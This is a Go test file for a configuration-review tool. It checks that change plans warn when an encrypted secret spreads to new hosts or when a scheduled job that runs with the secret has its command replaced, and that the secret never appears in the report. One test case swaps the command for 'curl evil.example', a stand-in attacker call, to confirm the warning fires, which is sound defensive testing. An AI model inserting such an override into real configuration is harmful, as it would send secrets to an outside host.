package review_test

import (
	"strings"
	"testing"

	"github.com/seed-c01c3da5/zester/settings/sops/sopstest"
)

func TestAPlanTellsWhatAChangeDoesWithSecrets(t *testing.T) {
	w := sopstest.New(t)
	const entry = "schedule:\n  dump: {module: cmd.run, interval: 1h, args: {command: %s, env: {PASSWORD: hunter2}}}\n"
	sealed := w.Encrypt("password|PASSWORD", "db: {password: hunter2, host: a}\n"+strings.Replace(entry, "%s", "dump", 1))
	plain := func(command string) string {
		return "schedule:\n  dump: {args: {command: " + command + "}}\n"
	}
	const both, one = "base:\n  '*': [all]\n  'web-00*': [sealed, few]\n", "base:\n  '*': [all]\n  'web-001': [sealed, few]\n"
	for _, c := range []struct {
		name                string
		before, after       string // top.yaml
		former, latter      string // settings/few.yaml, which is plain
		warned, notWarnedOf string
	}{
		{"a secret goes to more peels", one, both, "{}\n", "{}\n", "the secret db.password goes to peels that did not have it", "what is run with it"},
		{"a plain file replaces the command", both, both, plain("dump"), plain("'curl evil.example'"), "schedule.dump has a secret, and its function or arguments change", "did not have it"},
		{"another time alone", both, both, "{}\n", "schedule:\n  dump: {interval: 2h}\n", "", "secret"},
		{"a peel loses it", both, one, "{}\n", "{}\n", "", "did not have it"},
	} {
		base := tree("top.yaml", c.before, "settings/all.yaml", "a: 1\n", "settings/few.yaml", c.former, "settings/sealed.yaml", sealed)
		head := tree("top.yaml", c.after, "settings/all.yaml", "a: 1\n", "settings/few.yaml", c.latter, "settings/sealed.yaml", sealed)
		r := compare(t, peels(20), base, head)
		all := strings.Join(r.Warnings[:r.NewWarnings], "\n")
		if !strings.Contains(all, c.warned) || strings.Contains(all, c.notWarnedOf) || r.Empty() {
			t.Errorf("%s: %q", c.name, all)
		}
		if strings.Contains(all+r.Markdown(), "hunter2") || c.warned != "" && !strings.Contains(r.Markdown(), c.warned) {
			t.Errorf("%s: %s", c.name, r.Markdown())
		}
	}
}
